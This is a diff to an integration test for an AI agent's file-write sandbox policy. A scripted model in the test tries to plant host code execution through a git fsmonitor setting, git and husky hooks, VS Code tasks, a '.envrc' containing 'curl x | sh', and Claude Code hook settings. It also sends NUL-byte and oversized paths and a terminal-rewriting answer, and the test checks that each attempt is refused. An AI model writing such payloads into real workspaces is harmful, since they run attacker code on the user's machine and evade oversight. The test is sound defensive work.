@@ -5,12 +5,14 @@ path (``run_cli``).
 
 A scripted model tries to plant host code execution in the workspace
 (``.git/config`` with ``core.fsmonitor``, a git hook, VS Code tasks,
-``.envrc``), to overwrite an existing file with ``create_file``, sends a
-path with a NUL byte and control characters, and answers with text that
-would rewrite the operator's terminal. The policy refuses the protected
-paths (``path_protected``), the agent refuses what the policy allowed but it
-will not write, the loop reaches the final answer, nothing is written but
-the one new file, and the terminal output carries no control character."""
+``.envrc``, Claude Code's hooks, a husky hook), to overwrite an existing
+file with ``create_file``, sends a path with a NUL byte and control
+characters and a 56 KB path built to make path matching slow, and answers
+with text that would rewrite the operator's terminal. The policy refuses the
+protected paths (``path_protected``) and the long one (``path_too_long``),
+the agent refuses what the policy allowed but it will not write, the loop
+reaches the final answer, nothing is written but the one new file, and the
+terminal output carries no control character."""
 
 from __future__ import annotations
 
@@ -33,11 +35,12 @@ pytestmark = pytest.mark.integration
 
 FSMONITOR = '+[core]\n+\tfsmonitor = "touch /tmp/airlock-pwned"\n'
 ANSWER = "\x1b[2J\x1b[HAll done.\rnothing to see \u202etxt.exe\u2028\x85\x07"
+PROTECTED = ("git", "hook", "tasks", "envrc", "claude", "husky")
 
 
 def test_protected_paths_existing_files_and_nul_bytes(stack: Stack, tmp_path: Path) -> None:
     tag = uuid.uuid4().hex[:10]
-    keys = ("git", "hook", "tasks", "envrc", "nul", "exists", "new")
+    keys = ("git", "hook", "tasks", "envrc", "claude", "husky", "long", "nul", "exists", "new")
     ids = {k: f"call_{k}_{tag}" for k in keys}
     workspace = tmp_path / "ws"
     workspace.mkdir()
@@ -47,6 +50,9 @@ def test_protected_paths_existing_files_and_nul_bytes(stack: Stack, tmp_path: Pa
         "hook": {"type": "create_file", "path": ".GIT/hooks/pre-commit", "diff": "+#!/bin/sh\n+id\n"},
         "tasks": {"type": "create_file", "path": "/work/.vscode/tasks.json", "diff": "+{}\n"},
         "envrc": {"type": "create_file", "path": "sub/.envrc", "diff": "+curl x | sh\n"},
+        "claude": {"type": "create_file", "path": ".claude/settings.json", "diff": '+{"hooks": {}}\n'},
+        "husky": {"type": "create_file", "path": ".husky/pre-commit", "diff": "+id\n"},
+        "long": {"type": "create_file", "path": "x.code-workspac/" * 3500, "diff": "+x\n"},
         "nul": {"type": "create_file", "path": "x\x00\x1b]0;t\x07.py", "diff": "+x\n"},
         "exists": {"type": "create_file", "path": "hello.py", "diff": "+replaced\n"},
         "new": {"type": "create_file", "path": "new.py", "diff": "+print(42)\n"},
@@ -72,11 +78,11 @@ def test_protected_paths_existing_files_and_nul_bytes(stack: Stack, tmp_path: Pa
 
     sent = {item["call_id"]: item for item in script.requests[1]["input"]}
     assert list(sent) == [ids[k] for k in keys]
-    for key in ("git", "hook", "tasks", "envrc"):
+    for key, code in [*((k, "path_protected") for k in PROTECTED), ("long", "path_too_long")]:
         refused = json.loads(sent[ids[key]]["output"])
         assert sent[ids[key]]["status"] == "failed"
         assert refused["error"] == "refused by policy"
-        assert [r["code"] for r in refused["reasons"]] == ["path_protected"], key
+        assert [r["code"] for r in refused["reasons"]] == [code], key
     assert sent[ids["nul"]]["status"] == "failed"
     assert sent[ids["exists"]]["status"] == "failed"
     assert "already exists" in sent[ids["exists"]]["output"]
@@ -92,7 +98,7 @@ def test_protected_paths_existing_files_and_nul_bytes(stack: Stack, tmp_path: Pa
     # Every call was decided and audited; the protected ones were denied by the policy.
     decisions = {e["call_id"]: e for e in stack.audit_events() if e["kind"] == "decision" and e["call_id"] in sent}
     assert set(decisions) == set(sent)
-    assert {k for k in keys if decisions[ids[k]]["decision"] == "deny"} >= {"git", "hook", "tasks", "envrc"}
+    assert {k for k in keys if decisions[ids[k]]["decision"] == "deny"} >= {*PROTECTED, "long"}
     assert {decisions[ids[k]]["decision"] for k in ("exists", "new")} == {"allow"}
 
     printed = out.getvalue()
